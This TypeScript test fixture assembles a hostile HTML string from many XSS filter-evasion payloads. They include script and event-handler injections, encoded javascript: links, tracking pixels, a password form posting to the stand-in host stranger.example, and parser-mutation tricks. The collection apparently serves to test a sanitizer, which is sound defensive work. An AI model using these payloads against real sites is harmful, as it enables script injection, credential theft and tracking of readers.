/** Where a hostile text would send its reader. No request may ever go there. */
export const STRANGER = 'stranger.example';
/** Stands first in the hostile text, as a child of the place that shows it. */
export const MARKER = 'Texto de quem quer mal';

const run = 'window.ran=(window.ran||0)+1';
const away = `https://${STRANGER}`;

/** Script that is its own element, whole, broken, or hidden in another. */
const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/src="${away}/a.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run};//<</script>`,
  `<script type="module">${run}</script>`,
  `<template><script>${run}</script></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<embed src="data:text/html,<script>parent.ran=1</script>">`,
];

/** Script in an event that needs no user action. */
const events = [
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`.concat('>'),
  `<img """><img src=x onerror="${run}">`,
  `<img src="data:image/png;base64,AAAA" onerror="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">svg</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='parent.ran=1'/></svg>#x"></use></svg>`,
  `<math><mi xlink:href="javascript:${run}">m</mi></math>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}"><summary>d</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source src=x onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">m</marquee>`,
  `<p onpointerenter="${run}" onclick="${run}" onanimationstart="${run}">evento</p>`,
  `<b style="animation:x 1s" onanimationend="${run}">b</b>`,
];

/** Links that run something, or hide where they lead. */
const links = [
  ...[
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java&#9;script:${run}`,
    `java&#10;script:${run}`,
    `&#1;javascript:${run}`,
    `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
    `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>opener.ran=1</script>`,
    `//${STRANGER}/oculto`,
    `/\\${STRANGER}/oculto`,
    `/&#9;/${STRANGER}/oculto`,
  ].map((href) => `<a href="${href}">clique aqui</a>`),
  `<a href="${away}/aberto" target="_top" rel="opener" ping="${away}/ping" onclick="${run}">fora</a>`,
  `<form action="${away}/roubo"><input name="senha"><button formaction="javascript:${run}">Entrar</button></form>`,
  `<isindex action="javascript:${run}" type="image">`,
];

/** What asks a stranger for something as soon as it stands on the page, and so says who reads. */
const trackers = [
  `<img src="${away}/p.gif">`,
  `<img src="//${STRANGER}/p.gif">`,
  `<img src="/&#9;/${STRANGER}/images/p.gif">`,
  `<img src="/\\${STRANGER}/images/p.gif">`,
  `<img srcset="${away}/p.gif 1x">`,
  `<picture><source srcset="${away}/p.webp"><img alt="p"></picture>`,
  `<img src="/Login/LogoutReact">`,
  `<img src="/images/../Login/LogoutReact/p.png">`,
  `<video poster="${away}/p.jpg" src="${away}/v.mp4" autoplay></video>`,
  `<input type="image" src="${away}/p.gif">`,
  `<table background="${away}/p.gif"><tr><td background="${away}/p.gif">t</td></tr></table>`,
  `<p style="background:url(${away}/p.gif)">fundo</p>`,
  `<link rel="stylesheet" href="${away}/a.css"><link rel="prefetch" href="${away}/p">`,
  `<link rel="dns-prefetch" href="//${STRANGER}"><link rel="icon" href="${away}/i.png">`,
  `<meta http-equiv="refresh" content="0;url=${away}/">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<object data="${away}/o"></object><embed src="${away}/e"><iframe src="${away}/f"></iframe>`,
  `<base href="${away}/">`,
];

/** What would change the look of the page, or take the place of its parts. */
const styles = [
  `<style>body{display:none!important}@import "${away}/i.css";</style>`,
  `<style>@font-face{font-family:f;src:url(${away}/f.woff)}*{font-family:f!important}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">por cima</div>`,
  `<p class="MuiDialog-root MuiBackdrop-root" id="conteudo">classe</p>`,
  `<form id="body" name="body"><input name="attributes"></form><img name="cookie"><a id="defaultView"></a>`,
];

/** What a parser reads one way and a second parser another. They leave things open, so they come last. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<title><a title="</title><img src=x onerror=${run}>">`,
  `<select><template><style><!--</style><img src=x onerror=${run}>--></template></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!--><img src=x onerror=${run}>-->`,
  `<textarea><img src=x onerror=${run}></textarea><img src=x onerror="${run}"`,
];

/**
 * A text after the payload classes of OWASP's XSS filter evasion list: scripts, events, links, requests, styles and
 * mutations. It begins with a harmless paragraph by which the place that shows it is found.
 */
export const HOSTILE_HTML = [
  `<p>${MARKER}</p>`,
  ...scripts,
  ...events,
  ...links,
  ...trackers,
  ...styles,
  ...mutations,
].join('\n');
